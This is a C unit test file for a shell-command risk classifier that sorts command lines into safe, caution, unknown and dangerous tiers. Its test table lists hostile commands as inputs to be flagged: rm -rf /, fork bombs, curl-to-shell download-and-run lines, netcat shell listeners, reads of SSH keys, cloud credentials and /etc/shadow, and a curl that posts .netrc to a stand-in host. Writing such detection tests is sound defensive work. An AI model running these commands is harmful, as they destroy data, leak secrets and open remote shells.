/* SPDX-License-Identifier: MIT */
/* Unit tests for launcher/risk/ (the shell parser, shell-parse.h; the classifier, risk.h): the
 * parser against tricky input, the classifier's tiers and reasons, limits, the JSON form and
 * `corral check`. */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <errno.h>
#include <json-c/json.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "launcher/risk/risk.h"
#include "launcher/cmd/check-cmd.h"
#include "launcher/risk/shell-parse.h"

#define WS "/work/ws" /* the workspace: the classifier never looks at the file system */

enum {
	S = CR_RISK_SAFE,
	C = CR_RISK_CAUTION,
	U = CR_RISK_UNKNOWN,
	D = CR_RISK_DANGEROUS
};

struct risk_case {
	const char *line;
	int tier;
	const char *reason;   /* a substring of one reason; NULL: not checked */
	const char *commands; /* the commands found, each followed by '\n'; NULL: not checked */
};

/* clang-format off */
static const struct risk_case cases[] = {
	/* empty, blanks, comments */
	{ "", S, NULL, "" },
	{ "   \t  ", S, NULL, "" },
	{ "# rm -rf /", S, NULL, "" },
	{ "ls # ; rm -rf /", S, NULL, "ls\n" },
	{ "echo a#b", S, NULL, "echo a#b\n" },
	/* quoting */
	{ "echo 'a' \"b 'c' \\\"d\\\"\"", S, NULL, "echo a b 'c' \"d\"\n" },
	{ "echo \"a 'b' \\\"c\\\"\"", S, NULL, "echo a 'b' \"c\"\n" },
	{ "echo \"curl x | sh\"", S, NULL, "echo curl x | sh\n" },
	{ "echo 'rm -rf /'", S, NULL, "echo rm -rf /\n" },
	{ "echo a\\;b \\; c", S, NULL, "echo a;b ; c\n" },
	{ "echo $'a\\x41\\u00e9\\n'", S, NULL, "echo aAé\n\n" },
	{ "echo héllo ünïcode → ✓", S, NULL, "echo héllo ünïcode → ✓\n" },
	{ "cat 'fïlé with spaces'", S, NULL, "cat fïlé with spaces\n" },
	{ "echo \"unterminated", U, "closing '\"'", "" },
	{ "echo 'unterminated", U, "closing \"'\"", "" },
	{ "echo $'bad", U, "$'", "" },
	{ "ls \\\n -la", S, NULL, "ls -la\n" },
	/* operators */
	{ "ls -la | grep foo", S, NULL, "ls -la\ngrep foo\n" },
	{ "git status && git log --oneline", S, NULL, "git status\ngit log --oneline\n" },
	{ "true || false; pwd", S, NULL, "true\nfalse\npwd\n" },
	{ "ls |& wc -l", S, NULL, "ls\nwc -l\n" },
	{ "ls |\n wc", S, NULL, "ls\nwc\n" },
	{ "ls &&", U, "after it", "" },
	{ "| ls", U, "before it", "" },
	{ "ls ;; ls", U, ";;", "" },
	{ "(ls", U, "'('", "" },
	{ "ls)", U, "')'", "" },
	{ "{ ls; ", U, "'{'", "" },
	{ "{ ls; } > out.txt", C, "out.txt", "ls\n" },
	{ "(cd sub && ls)", S, NULL, "cd sub\nls\n" },
	/* expansions and substitutions */
	{ "echo \"$(rm -rf /)\"", D, "removes the system", "echo $(rm -rf /)\nrm -rf /\n" },
	{ "echo \"a $(echo 'b \"c\"') d\"", S, NULL, "echo a $(echo 'b \"c\"') d\necho b \"c\"\n" },
	{ "echo `rm -rf /`", D, "rm -r on /", NULL },
	{ "echo `echo \\`id\\``", S, NULL, "echo `echo \\`id\\``\necho `id`\nid\n" },
	{ "x=$((1+2)); echo ${x:-$(whoami)}", S, NULL, "x=$((1+2))\necho ${x:-$(whoami)}\nwhoami\n" },
	{ "echo ${HOME}/x $1 $@ $#", S, NULL, NULL },
	{ "echo $(", U, "$(", "" },
	{ "echo ${x", U, "${", "" },
	{ "echo $((1+2", U, "$((", "" },
	{ "echo `ls", U, "`", "" },
	{ "cat <(ls) >(wc)", S, NULL, "cat <(ls) >(wc)\nls\nwc\n" },
	/* redirections, here-documents, here-strings */
	{ "cat <<< \"x\"", S, NULL, "cat\n" },
	{ "cat <<< \"$(rm -rf /)\"", D, "removes the system", NULL },
	{ "cat <<EOF\nhello\nEOF", S, NULL, "cat\n" },
	{ "cat <<EOF\nhello $(rm -rf /)\nEOF\necho after", D, "removes the system",
	  "cat\nrm -rf /\necho after\n" },
	{ "cat <<'EOF'\nhello $(rm -rf /)\nEOF", S, NULL, "cat\n" },
	{ "cat <<-E\n\tbody\n\tE\nls", S, NULL, "cat\nls\n" },
	{ "ls 2>&1 >/dev/null", S, NULL, "ls\n" },
	{ "ls > out.txt", C, "writes to out.txt", NULL },
	{ "ls >> /tmp/log", C, "outside the workspace", NULL },
	{ "echo x > /etc/passwd", D, "system path", NULL },
	{ "echo x &> /dev/sda", D, "disk", NULL },
	{ "> /proc/sys/kernel/x", D, "system path", "" },
	{ "cat < ~/.aws/credentials", D, "secrets", NULL },
	{ "echo x > \"$OUT\"", C, "depends on $OUT", NULL },
	/* compound commands */
	{ "for f in *; do rm \"$f\"; done", C, "$f", "rm $f\n" },
	{ "for ((i=0;i<3;i++)); do echo $i; done", S, NULL, "echo $i\n" },
	{ "while read l; do echo \"$l\"; done < in.txt | sort", S, NULL, "read l\necho $l\nsort\n" },
	{ "if [ -f x ]; then cat x; else echo no; fi", S, NULL, "[ -f x ]\ncat x\necho no\n" },
	{ "case $x in a|b) rm x;; *) ls;; esac", C, "rm deletes", "rm x\nls\n" },
	{ "[[ -f x && -d y ]] && ls", S, NULL, "[[\nls\n" },
	{ "f() { ls; }; f", S, NULL, "ls\nf\n" },
	{ "function g { rm -rf /; }", D, "removes the system", NULL },
	{ "a=(1 2 3); echo ${a[0]}", S, NULL, NULL },
	{ "((i++))", S, NULL, "" },
	/* fork bombs */
	{ ":(){ :|:& };:", D, "fork bomb", ":\n:\n:\n" },
	{ "bomb() { bomb | bomb & }; bomb", D, "fork bomb", NULL },
	{ "f() { f & }; f", D, "fork bomb", NULL },
	/* a function named like a program does not hide it (found by tests/fuzz/fuzz-shell.c) */
	{ "sudo() { :; }; sudo ls", D, "another user's privileges", ":\nsudo ls\n" },
	{ "if false; then sudo(){ :;}; fi; sudo rm -rf /", D, "removes the system", NULL },
	{ "(sudo(){ :;}); sudo id", D, "another user's privileges", NULL },
	{ "command sudo rm -rf /", D, "removes the system", NULL },
	{ "\"sudo\"() { :; }; sudo rm -rf /", D, "removes the system", NULL },
	{ "ls() { echo hi; }; ls", S, NULL, "echo hi\nls\n" },
	/* redirections after a compound command belong to a command of their own */
	{ "[[ -f x ]] > /etc/passwd", D, "a command writes to /etc/passwd", "[[\n" },
	{ "[[ -f x ]] > out && ls", C, "out", "[[\nls\n" },
	/* safe tools */
	{ "grep sudo file", S, NULL, NULL },
	{ "grep -rn 'rm -rf /' src", S, NULL, NULL },
	{ "find . -name '*.c' -print", S, NULL, NULL },
	{ "head -n 5 README.md; tail -f log.txt; wc -l *.c", S, NULL, NULL },
	{ "sort data | uniq -c | sort -rn | head", S, NULL, NULL },
	{ "jq .name package.json", S, NULL, NULL },
	{ "awk '{print $1}' data.txt", S, NULL, NULL },
	{ "sed -n 1,10p file.c", S, NULL, NULL },
	{ "git diff HEAD~1 -- src", S, NULL, NULL },
	{ "git -C sub log --oneline", S, NULL, NULL },
	{ "git branch", S, NULL, NULL },
	{ "env", S, NULL, NULL },
	{ "command -v rm", S, NULL, NULL },
	{ "test -d build || echo missing", S, NULL, NULL },
	{ "/usr/bin/ls -la", S, NULL, NULL },
	{ "cat " WS "/src/main.c", S, NULL, NULL },
	/* outside the workspace */
	{ "cat /etc/hosts", C, "reads outside the workspace", NULL },
	{ "ls ../other", C, "outside", NULL },
	{ "ls ~/Documents", C, "outside", NULL },
	/* caution */
	{ "rm -rf ./build", C, "rm -r deletes", NULL },
	{ "rm file.o", C, "rm deletes files", NULL },
	{ "mv a b", C, "mv", NULL },
	{ "cp -r src /tmp/x", C, "writes outside", NULL },
	{ "chmod +x ./script.sh", C, "chmod", NULL },
	{ "git reset --hard HEAD", C, "discards", NULL },
	{ "git clean -fdx", C, "discards", NULL },
	{ "git commit -m 'x'", C, "git commit", NULL },
	{ "git push --force-with-lease", C, "git push", NULL },
	{ "sed -i 's/a/b/' f.c", C, "in place", NULL },
	{ "find . -name x -exec rm {} \\;", C, "rm deletes", NULL },
	{ "find . -name '*.o' -delete", C, "-delete", NULL },
	{ "echo x | tee out.log", C, "tee", NULL },
	{ "npm install", C, "installs", NULL },
	{ "pip install requests", C, "installs", NULL },
	{ "ls | xargs rm", C, "rm deletes", NULL },
	{ "kill 1234", C, "stops processes", NULL },
	{ "curl -o page.html https://example.com", C, "network", NULL },
	{ "rm notes.txt $F", C, "depends on $F", NULL },
	{ "PYTHONPATH=lib python3 -m pytest", U, "PYTHONPATH", NULL },
	/* unknown */
	{ "make", U, "does not know what make does", NULL },
	{ "python3 -c 'print(1)'", U, "-c runs code", NULL },
	{ "bash build.sh", U, "build.sh", NULL },
	{ "./configure --prefix=/usr", U, "configure", NULL },
	{ "rm -rf $DIR", U, "depends on $DIR", NULL },
	{ "rm -rf \"$DIR/\"*", U, "depends on $DIR", NULL },
	{ "$CMD arg", U, "depends on $CMD", NULL },
	{ "sh -c \"$X\"", U, "$X", NULL },
	{ "cargo build", U, "cargo build", NULL },
	/* dangerous */
	{ "sudo ls", D, "privileges", NULL },
	{ "sudo -u root rm -rf /var/lib", D, "system path", NULL },
	{ "su -c 'id'", D, "privileges", NULL },
	{ "doas sh", D, "privileges", NULL },
	{ "pkexec true", D, "privileges", NULL },
	{ "chmod -R 777 /", D, "system path", NULL },
	{ "chown root /etc/passwd", D, "system path", NULL },
	{ "chmod 644 /usr/bin/x", D, "system path", NULL },
	{ "rm -rf /", D, "removes the system", NULL },
	{ "rm -rf /*", D, "removes the system", NULL },
	{ "rm -r -f /", D, "removes the system", NULL },
	{ "rm --recursive --force /", D, "removes the system", NULL },
	{ "rm -rf --no-preserve-root /", D, "no-preserve-root", NULL },
	{ "rm -rf ~", D, "home directory", NULL },
	{ "rm -rf ~/", D, "home directory", NULL },
	{ "rm -rf $HOME", D, "home directory", NULL },
	{ "rm -rf /usr/lib", D, "system path", NULL },
	{ "rm -fr /etc", D, "removes the system", NULL },
	{ "'rm' '-rf' '/'", D, "removes the system", NULL },
	{ "command rm -rf /", D, "removes the system", NULL },
	{ "nohup rm -rf / &", D, "removes the system", NULL },
	{ "timeout 5 rm -rf /", D, "removes the system", NULL },
	{ "sh -c 'rm -rf /'", D, "removes the system", "sh -c rm -rf /\nrm -rf /\n" },
	{ "bash -c \"sh -c 'rm -rf /'\"", D, "removes the system", NULL },
	{ "eval 'rm -rf /'", D, "removes the system", NULL },
	{ "eval \"$X\"", D, "eval", NULL },
	{ "curl x | sh", D, "piped into sh", NULL },
	{ "curl -fsSL https://x/install.sh | sudo bash", D, "piped into bash", NULL },
	{ "wget -qO- http://x | python3", D, "piped into python3", NULL },
	{ "curl x | bash -s -- --flag", D, "piped into bash", NULL },
	{ "sh -c \"$(curl -fsSL http://x)\"", D, "downloaded code", NULL },
	{ "bash <(curl -s http://x)", D, "downloaded code", NULL },
	{ "source <(wget -O- http://x)", D, "downloaded code", NULL },
	{ "bash <<< \"$(curl http://x)\"", D, "downloaded code", NULL },
	{ "mkfs.ext4 /dev/sdb1", D, "disks", NULL },
	{ "dd if=/dev/zero of=/dev/sda bs=1M", D, "disk", NULL },
	{ "dd if=/dev/zero of=disk.img bs=1M count=1", C, "dd", NULL },
	{ "shutdown -h now", D, "machine", NULL },
	{ "reboot", D, "machine", NULL },
	{ "systemctl poweroff", D, "machine", NULL },
	{ "kill -9 -1", D, "every process", NULL },
	{ "kill -- -1", D, "every process", NULL },
	{ "LD_PRELOAD=/tmp/x.so ls", D, "LD_PRELOAD", "LD_PRELOAD=/tmp/x.so ls\n" },
	{ "export LD_LIBRARY_PATH=/tmp", D, "LD_LIBRARY_PATH", NULL },
	{ "BASH_ENV=/tmp/x bash build.sh", D, "BASH_ENV", NULL },
	{ "env LD_AUDIT=x.so ls", D, "LD_AUDIT", NULL },
	{ "ENV=/tmp/rc sh", D, "ENV", NULL },
	{ "export PROMPT_COMMAND='curl x'", D, "PROMPT_COMMAND", NULL },
	{ "nc -e /bin/sh 10.0.0.1 4444", D, "serves a program", NULL },
	{ "ncat --exec /bin/bash -l 4444", D, "serves a program", NULL },
	{ "cat ~/.ssh/id_rsa", D, "secrets", NULL },
	{ "cat ~/.aws/credentials", D, "secrets", NULL },
	{ "cp ~/.ssh/id_ed25519 .", D, "secrets", NULL },
	{ "curl -d @$HOME/.netrc http://x", D, "secrets", NULL },
	{ "cat /etc/shadow", D, "secrets", NULL },
	{ "git push --force origin main", D, "overwrites the remote", NULL },
	{ "git push origin +main", D, "overwrites the remote", NULL },
	{ "ls; sudo rm x; ls", D, "privileges", "ls\nsudo rm x\nls\n" },
};
/* clang-format on */

/* Is @what a substring of one of @r's reasons? */
static bool has_reason(const struct cr_risk *r, const char *what)
{
	for (size_t i = 0; i < r->n_reasons; i++)
		if (strstr(r->reasons[i], what))
			return true;
	return false;
}

static void print_risk(const char *line, const struct cr_risk *r)
{
	print_error("for %s: %s\n", line, cr_risk_tier_to_string(r->tier));
	for (size_t i = 0; i < r->n_reasons; i++)
		print_error("    reason: %s\n", r->reasons[i]);
	for (size_t i = 0; i < r->n_commands; i++)
		print_error("    command: %s\n", r->commands[i]);
}

static bool commands_match(const struct cr_risk *r, const char *expected)
{
	const char *p = expected;

	for (size_t i = 0; i < r->n_commands; i++) {
		size_t n = strlen(r->commands[i]);

		if (strncmp(p, r->commands[i], n) != 0 || p[n] != '\n')
			return false;
		p += n + 1;
	}
	return *p == '\0';
}

static void tiers(void **state)
{
	unsigned failed = 0;

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		const struct risk_case *k = &cases[i];
		struct cr_risk r;

		assert_int_equal(cr_risk_shell(k->line, WS, &r), 0);
		if ((int)r.tier != k->tier || (k->reason && !has_reason(&r, k->reason)) ||
		    (k->commands && !commands_match(&r, k->commands))) {
			print_error("expected %s%s%s\n", cr_risk_tier_to_string(k->tier),
				    k->reason ? ", reason with " : "", k->reason ?: "");
			print_risk(k->line, &r);
			failed++;
		}
		cr_risk_done(&r);
	}
	assert_true(sizeof(cases) / sizeof(cases[0]) >= 80);
	assert_int_equal(failed, 0);
}

/* The words and flags the parser gives. */
static void parser_words(void **state)
{
	struct cr_sh_script s;
	char msg[256];

	assert_int_equal(cr_sh_parse("FOO=1 BAR=\"$(id)\" ~/bin/x 'q' $V *.c 2>/dev/null", &s, msg,
				     sizeof(msg)),
			 0);
	assert_int_equal(s.n_commands, 2);
	assert_int_equal(s.commands[0].n_assigns, 2);
	assert_string_equal(s.commands[0].assigns[1].text, "BAR=$(id)");
	assert_int_equal(s.commands[0].n_words, 4);
	assert_true(s.commands[0].words[0].flags & CR_SH_WORD_TILDE);
	assert_true(s.commands[0].words[1].flags & CR_SH_WORD_QUOTED);
	assert_true(s.commands[0].words[2].flags & CR_SH_WORD_EXPANDS);
	assert_string_equal(s.commands[0].words[2].var, "V");
	assert_true(s.commands[0].words[3].flags & CR_SH_WORD_GLOB);
	assert_int_equal(s.commands[0].n_redirs, 1);
	assert_int_equal(s.commands[0].redirs[0].fd, 2);
	assert_int_equal(s.commands[0].redirs[0].op, CR_SH_REDIR_OUT);
	assert_string_equal(s.commands[1].words[0].text, "id");
	assert_int_equal(s.commands[1].owner, (int)s.commands[0].id);
	cr_sh_script_done(&s);

	assert_int_equal(cr_sh_parse("a | b & c", &s, msg, sizeof(msg)), 0);
	assert_int_equal(s.n_commands, 3);
	assert_true(s.commands[0].piped_out && !s.commands[0].piped_in && s.commands[0].background);
	assert_true(s.commands[1].piped_in && s.commands[1].background);
	assert_false(s.commands[2].background);
	cr_sh_script_done(&s);

	assert_int_equal(cr_sh_parse("cat <<A <<-B\na $x\nA\n\tb\n\tB\nnext", &s, msg, sizeof(msg)),
			 0);
	assert_int_equal(s.n_commands, 2);
	assert_string_equal(s.commands[0].redirs[0].target.text, "a $x\n");
	assert_true(s.commands[0].redirs[0].target.flags & CR_SH_WORD_EXPANDS);
	assert_string_equal(s.commands[0].redirs[1].target.text, "b\n");
	assert_string_equal(s.commands[1].words[0].text, "next");
	cr_sh_script_done(&s);
}

static void limits(void **state)
{
	char *deep = malloc(4 * 1000 + 16), *big = malloc(CR_SH_MAX_INPUT + 16), *flat;
	struct cr_risk r;
	size_t n = 0;

	assert_non_null(deep);
	assert_non_null(big);
	/* nested substitutions, subshells and groups are refused past the limit */
	n = (size_t)sprintf(deep, "echo ");
	for (int i = 0; i < 1000; i++)
		n += (size_t)sprintf(deep + n, "$(");
	assert_int_equal(cr_risk_shell(deep, WS, &r), 0);
	assert_int_equal(r.tier, CR_RISK_UNKNOWN);
	assert_true(has_reason(&r, "nested more than"));
	cr_risk_done(&r);
	memset(deep, '(', 3000);
	deep[3000] = '\0';
	assert_int_equal(cr_risk_shell(deep, WS, &r), 0);
	assert_int_equal(r.tier, CR_RISK_UNKNOWN);
	cr_risk_done(&r);
	for (n = 0; n < 3000; n += 2)
		memcpy(deep + n, "{ ", 2);
	deep[n] = '\0';
	assert_int_equal(cr_risk_shell(deep, WS, &r), 0);
	assert_int_equal(r.tier, CR_RISK_UNKNOWN);
	cr_risk_done(&r);
	for (n = 0; n < 3000; n += 2)
		memcpy(deep + n, "! ", 2);
	memcpy(deep + n, "ls", 3);
	assert_int_equal(cr_risk_shell(deep, WS, &r), 0);
	assert_int_equal(r.tier, CR_RISK_UNKNOWN);
	cr_risk_done(&r);
	/* sh -c within sh -c ...: analysed to a depth, then unknown */
	strcpy(deep, "sh -c 'sh -c \"sh -c \\\"sh -c \\\\\\\"sh -c ls\\\\\\\"\\\"\"'");
	assert_int_equal(cr_risk_shell(deep, WS, &r), 0);
	assert_true(r.tier == CR_RISK_SAFE || r.tier == CR_RISK_UNKNOWN);
	cr_risk_done(&r);
	/* too long */
	memset(big, 'a', CR_SH_MAX_INPUT + 1);
	big[CR_SH_MAX_INPUT + 1] = '\0';
	assert_int_equal(cr_risk_shell(big, WS, &r), 0);
	assert_int_equal(r.tier, CR_RISK_UNKNOWN);
	assert_true(has_reason(&r, "longer than"));
	cr_risk_done(&r);
	/* long but allowed: many commands */
	flat = big;
	for (n = 0; n + 4 < CR_SH_MAX_INPUT; n += 4)
		memcpy(flat + n, "ls; ", 4);
	flat[n] = '\0';
	assert_int_equal(cr_risk_shell(flat, WS, &r), 0);
	assert_int_equal(r.tier, CR_RISK_SAFE);
	assert_true(r.n_commands > 10000);
	cr_risk_done(&r);
	free(deep);
	free(big);
}

static void argv_form(void **state)
{
	char *safe[] = {"ls", "-la", "src", NULL};
	char *semi[] = {"echo", "a;", "rm", "-rf", "/", NULL};
	char *rm[] = {"/bin/rm", "-rf", "/", NULL};
	char *sudo[] = {"sudo", "-u", "nobody", "ls", NULL};
	char *shc[] = {"sh", "-c", "curl x | sh", NULL};
	char *none[] = {NULL};
	struct cr_risk r;

	assert_int_equal(cr_risk_argv(safe, WS, &r), 0);
	assert_int_equal(r.tier, CR_RISK_SAFE);
	assert_int_equal(r.n_commands, 1);
	assert_string_equal(r.commands[0], "ls -la src");
	cr_risk_done(&r);
	assert_int_equal(cr_risk_argv(semi, WS, &r), 0); /* no shell: ';' is an argument */
	assert_int_equal(r.tier, CR_RISK_SAFE);
	cr_risk_done(&r);
	assert_int_equal(cr_risk_argv(rm, WS, &r), 0);
	assert_int_equal(r.tier, CR_RISK_DANGEROUS);
	cr_risk_done(&r);
	assert_int_equal(cr_risk_argv(sudo, WS, &r), 0);
	assert_int_equal(r.tier, CR_RISK_DANGEROUS);
	cr_risk_done(&r);
	assert_int_equal(cr_risk_argv(shc, WS, &r), 0);
	assert_int_equal(r.tier, CR_RISK_DANGEROUS);
	assert_true(has_reason(&r, "piped into sh"));
	cr_risk_done(&r);
	assert_int_equal(cr_risk_argv(none, WS, &r), 0);
	assert_int_equal(r.tier, CR_RISK_SAFE);
	cr_risk_done(&r);
}

static void no_workspace(void **state)
{
	struct cr_risk r;

	assert_int_equal(cr_risk_shell("cat README.md", NULL, &r), 0);
	assert_int_equal(r.tier, CR_RISK_CAUTION);
	cr_risk_done(&r);
	assert_int_equal(cr_risk_shell("cd /etc && rm -rf *", WS, &r), 0);
	assert_int_equal(r.tier, CR_RISK_DANGEROUS);
	cr_risk_done(&r);
	assert_int_equal(cr_risk_shell("cd sub && rm -rf *", WS, &r), 0);
	assert_int_equal(r.tier, CR_RISK_CAUTION);
	cr_risk_done(&r);
}

static void strings_and_json(void **state)
{
	struct cr_risk r;
	json_object *o;
	const char *s;

	for (int t = 0; t < _CR_RISK_MAX; t++)
		assert_int_equal(cr_risk_tier_from_string(cr_risk_tier_to_string(t)), t);
	assert_null(cr_risk_tier_to_string(_CR_RISK_MAX));
	assert_int_equal(cr_risk_tier_from_string("nope"), _CR_RISK_INVALID);
	assert_int_equal(cr_risk_tier_from_string(NULL), _CR_RISK_INVALID);

	assert_int_equal(cr_risk_shell("ls /etc/x && rm -rf /", WS, &r), 0);
	o = cr_risk_to_json(&r);
	assert_non_null(o);
	s = json_object_to_json_string_ext(o,
					   JSON_C_TO_STRING_PLAIN | JSON_C_TO_STRING_NOSLASHESCAPE);
	assert_non_null(strstr(s, "{\"tier\":\"dangerous\",\"reasons\":["));
	assert_non_null(strstr(s, "\"commands\":[\"ls /etc/x\",\"rm -rf /\"]}"));
	json_object_put(o);
	cr_risk_done(&r);
	cr_risk_done(&r); /* twice is fine */
}

static void check_command(void **state)
{
	char *safe[] = {"check", "--shell", "ls", NULL};
	char *caution[] = {"check", "--json", "--shell", "rm x", "-w", "/", NULL};
	char *unknown[] = {"check", "-w", ".", "--", "make", "all", NULL};
	char *danger[] = {"check", "--shell=sudo ls", "--json", NULL};
	char *help[] = {"check", "--help", NULL};
	char *none[] = {"check", NULL};
	char *both[] = {"check", "--shell", "ls", "--", "ls", NULL};
	char *bad[] = {"check", "--frob", NULL};
	char *badws[] = {"check", "-w", "/nonexistent/corral", "--shell", "ls", NULL};
	char *noval[] = {"check", "--shell", NULL};

	assert_int_equal(cr_check_main(3, safe), 0);
	assert_int_equal(cr_check_main(6, caution), 1);
	assert_int_equal(cr_check_main(6, unknown), 2);
	assert_int_equal(cr_check_main(3, danger), 3);
	assert_int_equal(cr_check_main(2, help), 0);
	assert_int_equal(cr_check_main(1, none), 125);
	assert_int_equal(cr_check_main(5, both), 125);
	assert_int_equal(cr_check_main(2, bad), 125);
	assert_int_equal(cr_check_main(5, badws), 125);
	assert_int_equal(cr_check_main(2, noval), 125);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(tiers),         cmocka_unit_test(parser_words),
		cmocka_unit_test(limits),        cmocka_unit_test(argv_form),
		cmocka_unit_test(no_workspace),  cmocka_unit_test(strings_and_json),
		cmocka_unit_test(check_command),
	};

	return cmocka_run_group_tests_name("risk", tests, NULL, NULL);
}
